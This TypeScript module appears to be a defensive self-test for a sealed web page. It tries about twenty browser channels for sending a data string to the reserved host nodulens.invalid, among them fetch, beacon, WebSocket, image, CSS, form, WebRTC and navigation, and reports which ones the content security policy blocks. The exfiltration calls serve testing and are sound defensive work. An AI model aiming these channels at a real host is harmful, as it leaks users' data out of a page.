/**
 * The self-test: tries every way out that a page has and tells what became of each. Only a refusal that can be seen
 * counts: a report by the browser's policy, a function that is not there, an element that cannot be made, a navigation that
 * was stopped. An attempt that merely fails (no such host, no network) is not taken for one.
 */
import { DATA } from '../../shared/leak-attempt.ts';
import type { Attempt } from '../../shared/leak-attempt.ts';
import { Refused } from './guard.ts';
import { refusals } from './seal.ts';

/** Reserved by RFC 2606: leads nowhere, should it ever be reached. */
const ELSEWHERE = 'https://nodulens.invalid/';
/** The browser reports a refusal at once, but not always within the call. */
const PATIENCE = 400;

class Gone extends Error {}

type Global = Record<string, unknown>;

/** The function or class of that name, in `of`. */
function having<T>(of: object, name: string): T {
  const found = (of as Global)[name];
  if (typeof found !== 'function') throw new Gone(name);
  return found as T;
}

/** Whether the browser's policy refuses what `act` does; one of `match` is in the address or is the directive that it reports. */
async function refusedByPolicy(match: string, act: () => unknown): Promise<boolean> {
  let seen: () => void = () => undefined;
  const reported = new Promise<boolean>((resolve) => {
    seen = () => resolve(true);
    setTimeout(() => resolve(false), PATIENCE);
  });
  const hear = (event: SecurityPolicyViolationEvent): void => {
    if (match.split('|').some((part) => part === event.effectiveDirective || event.blockedURI.includes(part))) seen();
  };
  document.addEventListener('securitypolicyviolation', hear);
  try {
    // Whatever it throws or rejects with is its own affair: only the report counts.
    void Promise.resolve(act()).catch(() => undefined);
    return await reported;
  } catch (error) {
    if (error instanceof Gone || error instanceof Refused) throw error;
    return await reported;
  } finally {
    document.removeEventListener('securitypolicyviolation', hear);
  }
}

/** Stopped by our own listener (seal.ts). */
async function refusedByUs(act: () => unknown): Promise<boolean> {
  const before = refusals.count;
  act();
  await new Promise((resolve) => setTimeout(resolve, PATIENCE / 4));
  return refusals.count > before;
}

const put = (element: HTMLElement): void => {
  document.body.append(element);
  setTimeout(() => element.remove(), PATIENCE);
};

type Try = [id: string, match: string, act: () => unknown];

function attempts(to: string, host: string): Try[] {
  const at = (path: string): string => `${to}${path}${DATA}`;
  const named = (path: string): string => `${host}${path}`;
  return [
    ['fetch', named('fetch'), () => having<typeof fetch>(window, 'fetch')(at('fetch'), { method: 'POST', body: DATA, mode: 'no-cors' })],
    ['xhr', named('xhr'), () => {
      const request = new (having<typeof XMLHttpRequest>(window, 'XMLHttpRequest'))();
      request.open('GET', at('xhr'));
      request.send();
    }],
    ['beacon', named('beacon'), () => having<typeof navigator.sendBeacon>(navigator, 'sendBeacon').call(navigator, at('beacon'), DATA)],
    ['websocket', named('socket'), () => new (having<typeof WebSocket>(window, 'WebSocket'))(at('socket').replace('http', 'ws'))],
    ['events', named('events'), () => new (having<typeof EventSource>(window, 'EventSource'))(at('events'))],
    ['transport', named('transport'), () => new (having<typeof WebTransport>(window, 'WebTransport'))(at('transport'))],
    ['image', named('image'), () => Object.assign(new Image(), { src: at('image') })],
    ['style', named('style'), () => {
      const element = document.createElement('div');
      element.style.backgroundImage = `url("${at('style')}")`;
      put(element);
    }],
    ['sheet', named('sheet'), () => put(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at('sheet') }))],
    ['prefetch', named('prefetch'), () => put(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at('prefetch') }))],
    ['media', named('media'), () => Object.assign(new Audio(), { src: at('media') }).load()],
    ['import', named('import'), () => import(at('import'))],
    ['frame', named('frame'), () => put(Object.assign(document.createElement('iframe'), { src: at('frame') }))],
    ['form', 'form-action', () => {
      const form = Object.assign(document.createElement('form'), { action: at('form'), method: 'post', target: '_blank' });
      put(form);
      form.submit();
    }],
  ];
}

const others: Try[] = [
  ['rtc', 'webrtc', () => new (having<typeof RTCPeerConnection>(window, 'RTCPeerConnection'))({ iceServers: [{ urls: 'stun:nodulens.invalid' }] })],
  ['window', 'window', () => having<typeof open>(window, 'open')(ELSEWHERE + DATA)],
  ['worker', 'require-trusted-types-for|nodulens.invalid/worker', () => new Worker(`${ELSEWHERE}worker.js`)],
  ['markup', 'require-trusted-types-for|nodulens.invalid/markup', () => {
    document.createElement('div').innerHTML = `<img src="${ELSEWHERE}markup${DATA}">`;
  }],
];

async function tried([id, match, act]: Try): Promise<Attempt> {
  try {
    return { id, result: (await refusedByPolicy(match, act)) ? 'refused-by-policy' : 'got-out' };
  } catch (error) {
    if (error instanceof Gone) return { id, result: 'taken-away' };
    if (error instanceof Refused) return { id, result: 'stopped' };
    throw error;
  }
}

/** Tries everything, elsewhere and, where the page is sealed, at its own server as well. */
export async function tryEverything(sealed: boolean, show: (attempt: Attempt) => void): Promise<void> {
  const elsewhere = [...attempts(ELSEWHERE, 'nodulens.invalid/'), ...others];
  for (const each of elsewhere) show(await tried(each));
  if (!sealed) return;
  const own = new URL('.', document.baseURI);
  const [load] = attempts(own.href, own.host + own.pathname);
  const image = attempts(own.href, own.host + own.pathname).find(([id]) => id === 'image');
  for (const each of [load, image]) if (each) show(await tried([`own-${each[0]}`, each[1], each[2]]));
  const go: [string, () => unknown][] = [
    ['navigate', () => location.assign(ELSEWHERE + DATA)],
    ['own-navigate', () => location.assign(new URL(DATA, own).href)],
    ['link', () => {
      const link = Object.assign(document.createElement('a'), { href: ELSEWHERE + DATA, target: '_blank' });
      try {
        link.click();
      } catch (error) {
        if (!(error instanceof Refused)) throw error;
      }
    }],
  ];
  const guarded = 'navigation' in window;
  for (const [id, act] of go) {
    if (!guarded && id !== 'link') show({ id, result: 'cannot-refuse' });
    else show({ id, result: (await refusedByUs(act)) ? 'stopped' : 'got-out' });
  }
}
